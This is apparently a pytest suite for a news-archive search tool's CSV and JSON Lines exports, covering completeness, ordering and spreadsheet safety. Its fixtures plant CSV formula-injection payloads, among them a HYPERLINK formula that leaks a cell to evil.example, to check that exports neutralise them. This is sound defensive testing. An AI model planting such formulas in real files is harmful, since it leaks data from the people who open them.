"""Exports of every match (CSV, JSON Lines): exactly the matches, in the pages' order, inert in spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from urllib.parse import urlencode

import numpy as np
import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient

from search.cli import main as cli
from search.export import CSV_COLUMNS, inert
from search.ordering import ordered_runs, page_slice, tie_order
from search.request import SearchRequest
from search.searching import SearchIndex
from search.store import Store
from search.writer import build, update
from webui import create_app
from webui.index import close_index

FIXTURE = Path(__file__).parent / "fixtures" / "archive"
SEARCHES = (
    {},  # every event
    {"q": "bomb"},
    {"q": "japan OR tsunami", "sort": "oldest"},
    {"tags": "Tajikistan", "sort": "newest"},
    {"q": "", "from": "2011-01-01", "to": "2015-12-31"},
    {"q": "killed", "language": "en", "page": "3", "size": "2"},  # page and size do not apply to an export
)


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def jsonl_records(text: str) -> list[dict]:
    assert text.endswith("\n") or not text
    return [json.loads(line) for line in text.splitlines()]


def api_pages(client: FlaskClient, search: dict) -> tuple[int, list[str]]:
    """The total of a search and the ids of all its pages in order, through the JSON API."""
    base = {key: value for key, value in search.items() if key not in ("page", "size")}
    ids, page = [], 1
    while True:
        found = client.get("/api/search?" + urlencode({**base, "size": 7, "page": page})).get_json()
        ids += [hit["id"] for hit in found["hits"]]
        if page >= found["pages"]:
            return found["total"], ids
        page += 1


@pytest.mark.parametrize("search", SEARCHES)
def test_the_exports_hold_every_match_in_the_order_of_the_pages(client, search):
    total, ids = api_pages(client, search)
    # Each streamed response read before the next request: it holds its request context until then.
    csv_response = client.get("/search.csv?" + urlencode(search))
    assert csv_response.is_streamed
    rows = csv_rows(csv_response.get_data(as_text=True))
    jsonl_response = client.get("/search.jsonl?" + urlencode(search))
    assert jsonl_response.is_streamed
    records = jsonl_records(jsonl_response.get_data(as_text=True))
    assert total > 0 and len(rows) == len(records) == total
    assert [row["id"] for row in rows] == [record["id"] for record in records] == ids
    assert csv_response.headers["X-Total-Count"] == jsonl_response.headers["X-Total-Count"] == str(total)


def test_an_export_over_every_event_holds_all_of_them(client, en_index_dir):
    with SearchIndex(en_index_dir) as index:
        every = index.search(SearchRequest(page_size=1)).total
    records = jsonl_records(client.get("/search.jsonl").get_data(as_text=True))
    assert len(records) == every and len({record["id"] for record in records}) == every


def test_a_jsonl_record_has_the_fields_of_an_api_hit_but_highlights(client):
    hit = client.get("/api/search?q=bomb&size=1").get_json()["hits"][0]
    record = jsonl_records(client.get("/search.jsonl?q=bomb").get_data(as_text=True))[0]
    del hit["highlights"]
    assert record == hit


def test_a_csv_row_flattens_tags_and_sources_one_value_per_line(client):
    hit = client.get("/api/search?q=bomb&size=1").get_json()["hits"][0]
    row = csv_rows(client.get("/search.csv?q=bomb").get_data(as_text=True))[0]
    assert list(row) == list(CSV_COLUMNS)
    assert row["tags"].split("\n") == hit["tags"]
    for column, key in (("source_names", "name"), ("source_urls", "url"), ("source_domains", "domain")):
        assert row[column].split("\n") == [source[key] for source in hit["sources"]]


@pytest.mark.parametrize("export_format", ("csv", "jsonl"))
def test_the_command_line_exports_what_the_web_exports(client, en_index_dir, export_format):
    result = CliRunner().invoke(
        cli,
        [
            "search",
            "japan OR bomb",
            "--sort",
            "oldest",
            "--all",
            "--format",
            export_format,
            "--index-dir",
            str(en_index_dir),
        ],
    )
    assert result.exit_code == 0, result.output
    web = client.get(f"/search.{export_format}?q=japan+OR+bomb&sort=oldest").get_data()
    assert result.stdout_bytes == web


def test_without_all_the_command_line_prints_the_page_as_rows(en_index_dir):
    result = CliRunner().invoke(
        cli, ["search", "bomb", "--size", "3", "--format", "jsonl", "--index-dir", str(en_index_dir)]
    )
    assert result.exit_code == 0 and len(jsonl_records(result.stdout)) == 3


@pytest.mark.parametrize(
    "args", (["--all"], ["--all", "--format", "json"], ["--all", "--json"], ["--json", "--format", "csv"])
)
def test_all_without_a_row_format_is_a_usage_error(en_index_dir, args):
    result = CliRunner().invoke(cli, ["search", "bomb", *args, "--index-dir", str(en_index_dir)])
    assert result.exit_code == 2


# -- spreadsheets ---------------------------------------------------------

PLANTED = """### [2021-03-3](/news/2021/03/3/index.md)

# =HYPERLINK("http://evil.example/?leak="&A1,"Click me") 

-2+3 is what the summary says.


### Source:

1. [@SUM(1+1)*cmd](https://outlet.example/story)
"""
PLANTED_INDEX = """## [2021-03-3](/news/2021/03/3/index.md)

##### +Topic that starts with a plus
### [=HYPERLINK("http://evil.example/?leak="&A1,"Click me") ](/news/2021/03/3/planted.md)
_Context: @tag, Plain tag_
"""


@pytest.fixture(scope="module")
def planted_index(tmp_path_factory) -> Path:
    content = tmp_path_factory.mktemp("planted")
    shutil.copytree(FIXTURE, content, dirs_exist_ok=True)
    day = content / "news/2021/03/3"
    day.mkdir(parents=True)
    (day / "planted.md").write_text(PLANTED)
    (day / "index.md").write_text(PLANTED_INDEX)
    index_dir = tmp_path_factory.mktemp("planted-index")
    build(content, Store(index_dir), workers=1)
    return index_dir


def test_planted_formulas_come_out_inert_in_csv_and_exact_in_jsonl(planted_index):
    app = create_app({"TESTING": True, "INDEX_DIR": str(planted_index)})
    try:
        client = app.test_client()
        row = csv_rows(client.get("/search.csv?from=2021-03-03").get_data(as_text=True))[0]
        record = jsonl_records(client.get("/search.jsonl?from=2021-03-03").get_data(as_text=True))[0]
    finally:
        close_index(app)
    assert record["headline"].startswith("=HYPERLINK")
    planted = {
        "headline": record["headline"],
        "summary": record["summary"],
        "topic": record["topic"],
        "tags": "\n".join(record["tags"]),
        "source_names": record["sources"][0]["name"],
    }
    assert planted["summary"].startswith("-") and planted["topic"].startswith("+")
    assert planted["tags"].startswith("@") and planted["source_names"].startswith("@")
    assert {column: row[column] for column in planted} == {
        column: "'" + value for column, value in planted.items()
    }
    assert not row["id"].startswith("'") and row["source_urls"] == "https://outlet.example/story"


@pytest.mark.parametrize(
    ("cell", "shown"),
    (
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (" =1+1", " =1+1"),
        ("", ""),
        ("a=b", "a=b"),
    ),
)
def test_inert(cell, shown):
    assert inert(cell) == shown


# -- order and the index the export reads --------------------------------


@pytest.mark.parametrize("seed", range(6))
def test_ordered_runs_in_tie_order_are_the_pages_one_after_another(seed):
    rng = np.random.default_rng(seed)
    size = int(rng.integers(1, 300))
    candidates = np.sort(rng.choice(5000, size, replace=False))
    keys = [rng.integers(0, 4, size), rng.integers(0, 6, size)]  # many ties
    ids = {int(doc): f"id-{rng.integers(0, 10**6):07d}-{doc}" for doc in candidates}
    paged = page_slice(candidates, keys, 0, size, ids.__getitem__).tolist()
    runs = list(ordered_runs(candidates, keys, int(rng.integers(1, 40))))
    exported = []
    for docnums, groups in runs:
        exported += [int(docnums[i]) for i in tie_order(groups, [ids[int(d)] for d in docnums])]
    assert exported == paged
    # No tie crosses from one run into the next.
    last_groups = [int(groups[-1]) for _, groups in runs[:-1]]
    first_groups = [int(groups[0]) for _, groups in runs[1:]]
    assert all(last != first for last, first in zip(last_groups, first_groups, strict=True))


def test_an_export_started_before_an_update_reads_the_index_it_began_with(tmp_path, monkeypatch):
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    store = Store(tmp_path / "index")
    build(content, store, workers=1)
    monkeypatch.setattr("search.searching.EXPORT_RUN_ROWS", 2)
    with SearchIndex(store.root) as index:
        before = [hit.id for hit in index.search(SearchRequest(page_size=100)).hits]
        matches = index.every_match(SearchRequest())
        first = next(matches.runs)
        for page in content.glob("news/2020/01/5/*.md"):
            page.unlink()
        assert update(content, store).removed > 0
        assert len(index.search(SearchRequest(page_size=100)).hits) < len(before)  # the index moved on
        exported = [hit.id for hit in first] + [hit.id for hit in matches.hits()]
    assert exported == before


def test_a_timed_out_export_exports_nothing_and_says_so(en_index_dir):
    with SearchIndex(en_index_dir, search_seconds=0) as index:
        matches = index.every_match(SearchRequest(text="bomb OR killed"))
    assert matches.timed_out and matches.total == 0 and list(matches.hits()) == []
